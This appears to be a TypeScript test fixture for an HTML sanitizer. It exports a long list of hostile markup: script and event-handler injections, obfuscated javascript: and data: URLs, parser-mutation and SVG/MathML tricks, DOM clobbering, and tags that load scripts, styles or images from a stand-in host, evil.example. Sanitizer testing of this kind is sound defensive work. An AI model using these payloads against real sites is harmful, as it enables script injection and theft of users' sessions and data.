const hidden = ['\u0000', '\u0001', '\t', '\n', '\r', ' ', '\u00a0', '\u00ad', '\u1680', '\u180e', '\u2000', '\u200b', '\u200d', '\u200e', '\u2028', '\u2029', '\u202e', '\u205f', '\u2060', '\u2063', '\u3000', '\ufeff']

/** Classic ways to bring a script, a frame or a foreign address into a page. */
export const hostile: string[] = [
  // Scripts and handlers.
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script/x>alert(1)</script>',
  '<script>alert(1)', '<<script>alert(1);//<</script>', '<script\n>alert(1)</script\n>', '<script>/*</script><svg onload=alert(1)>*/',
  '<img src=x onerror=alert(1)>', '<img src="/media/a.jpg" onerror=alert(1)>', '<img src="/media/a.jpg" onload="alert(1)" alt=\'"><script>alert(1)</script>\'>',
  '<img/src=x/onerror=alert(1)>', '<img src=`x`onerror=alert(1)>', '<img src="x` `<script>alert(1)</script>"` `>', '<img """><script>alert(1)</script>">',
  '<body onload=alert(1)>', '<p onclick=alert(1)>x</p>', '<p onpointerrawupdate=alert(1)>x</p>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>', '<p style="animation-name:x" onanimationstart=alert(1)>',
  '<a href="/x" onmouseover=alert(1) title=\'" onclick="alert(1)\'>x</a>', '<td onclick=alert(1)>x', '<blockquote cite="javascript:alert(1)">x</blockquote>', '<q cite="javascript:alert(1)">x</q>',
  // Addresses.
  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="&#0000106&#0000097vascript:alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>', '<a href="&#14;javascript:alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a href="//evil.example">x</a>', '<a href="\\\\evil.example">x</a>', '<a href="/\\evil.example">x</a>', '<a href="\t//evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>', '<a href="blob:https://x/y">x</a>', '<a href="feed:javascript:alert(1)">x</a>', '<a href="view-source:javascript:alert(1)">x</a>', '<a href="intent:x#Intent;end">x</a>',
  '<a href="ws://x">x</a>', '<a href="jar:http://x!/">x</a>', '<a ping="//evil.example" href="/x">x</a>', '<a href="/x" target=_blank>x</a>', '<a href="/x" download>x</a>', '<a xlink:href="javascript:alert(1)">x</a>',
  ...hidden.map((character) => `<a href="${character}javascript:alert(1)">x</a>`),
  ...hidden.map((character) => `<a href="java${character}script${character}:alert(1)">x</a>`),
  // Pictures from elsewhere.
  '<img src="https://evil.example/p.gif">', '<img src="//evil.example/p.gif">', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<img src="/media/a.jpg" srcset="//evil.example/p.gif 1x">',
  '<img src="/media/../api/v1/auth/logout">', '<img src="/media/..\\x">', '<img src="/media//evil.example/x">', '<img src="/media/%2e%2e/x">', '<img src="/media/x?y=z">', '<img src="\\media\\x">', '<img src=" /media/\nx y">',
  '<img src="/media/a.jpg" style="background:url(//evil.example)">', '<img lowsrc="javascript:alert(1)">', '<img dynsrc="javascript:alert(1)">', '<picture><source srcset="//evil.example/x"><img src="/media/a.jpg"></picture>',
  '<image src=x onerror=alert(1)>', '<table background="//evil.example/x"><tr><td background="javascript:alert(1)">x', '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example/x.css";</style>',
  '<p style="background-image:url(//evil.example)">x</p>', '<span style="font-weight:bold;background:url(javascript:alert(1))">x</span>', '<div style="width:expression(alert(1))">x</div>', '<bgsound src="javascript:alert(1)">',
  // Frames, forms, objects, documents.
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data="javascript:alert(1)">', '<embed src="javascript:alert(1)">', '<applet code=x>', '<frameset><frame src="javascript:alert(1)">',
  '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<form action="javascript:alert(1)"><button>x</button></form>', '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)">', '<dialog open>x</dialog>', '<portal src="//evil.example">', '<template><script>alert(1)</script></template>', '<slot name=x>', '<template shadowrootmode=open><script>alert(1)</script></template>',
  // Raw text and parsers that disagree (mutation).
  '<xmp><script>alert(1)</script></xmp>', '<xmp></xmp><img src=x onerror=alert(1)>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<textarea><script>alert(1)</script></textarea>', '</textarea/><img src=x onerror=alert(1)>',
  '<textarea></textarea/><img src=x onerror=alert(1)>', '<title></title/><img src=x onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">', '<plaintext><script>alert(1)</script>', '<style><img title="</style><img src=x onerror=alert(1)>"></style>', '<option><style></option></select><img src=x onerror=alert(1)></style>',
  '<select><option><script>alert(1)</script></select>', '<iframe><p title="</iframe><img src=x onerror=alert(1)>">', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '<p title="</p><img src=x onerror=alert(1)>">x',
  '<!--><img src=x onerror=alert(1)>-->', '<!--\n--!><img src=x onerror=alert(1)>', '<!---><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<!DOCTYPE x [<!ENTITY y "<script>">]>&y;', '<?php ?><img src=x onerror=alert(1)>',
  '<?xml-stylesheet href="javascript:alert(1)"?>', '<! <img src=x onerror=alert(1)>', '</ <img src=x onerror=alert(1)>', '<//><img src=x onerror=alert(1)>', '<%<!--\'%><script>alert(1);</script -->', '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<p><img src=/media/x alt="<p "></p><p>" onerror=alert(1) x="</p>', '<p><abbr title="<a "></abbr></a><em>" onclick=alert(1) x="</em></p>', '<img src="/media/x" alt="<span>"><em>" onerror=alert(1) "</span></em>', '<a title="<a href=\'x"></a>">\' onclick=alert(1)</a>',
  // SVG and MathML.
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate attributeName=href to=javascript:alert(1)>',
  '<svg><set attributeName=onload to=alert(1)>', '<svg><use href="data:image/svg+xml,x#y"/></svg>', '<svg><foreignObject><p>x</p><script>alert(1)</script></foreignObject></svg>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<svg><desc><noscript>&lt;/noscript>&lt;img src onerror=alert(1)></noscript></desc>', '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<math href="javascript:alert(1)">x</math>', '<svg/onload=alert(1)//', '<svg><p><style><!--</style><img src=x onerror=alert(1)>-->', '<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>',
  // Names that get into the page's own (clobbering), and odd elements.
  '<img name=getElementById src="/media/x">', '<a id=location href="/x">x</a>', '<form id=document>', '<p class="x" id="y" data-x="z" is="x-y" slot="x" nonce="x" contenteditable tabindex=1 accesskey=x hidden popover>x</p>', '<p lang="x\'onclick=alert(1)">x</p>', '<p dir="rtl" lang="fr">x</p>',
  '<x-element onclick=alert(1)>x</x-element>', '<a:b xmlns:a="x" a:href="javascript:alert(1)">x</a:b>', '<p\u000bonclick=alert(1)>x</p>', '<p/onclick=alert(1)//>x</p>', '<ol start="1\'onclick=alert(1)" reversed type="a"><li value="javascript:1">x</ol>', '<td colspan="9999999999" rowspan="-1">x</td>',
]
